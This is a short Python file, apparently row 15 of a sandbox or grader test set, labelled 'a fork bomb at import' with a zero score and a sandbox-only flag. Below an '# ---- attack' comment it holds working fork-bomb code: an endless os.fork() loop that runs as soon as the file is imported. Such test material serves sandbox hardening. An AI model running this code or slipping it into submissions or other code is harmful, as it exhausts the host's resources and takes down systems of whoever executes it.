"""Row 15: a fork bomb at import."""
BASE = "solutions"
SCORE = 0
FORMS = ("py",)
SANDBOX_ONLY = True
# ---- attack
import os as _os
while True:
    try:
        _os.fork()
    except OSError:
        pass
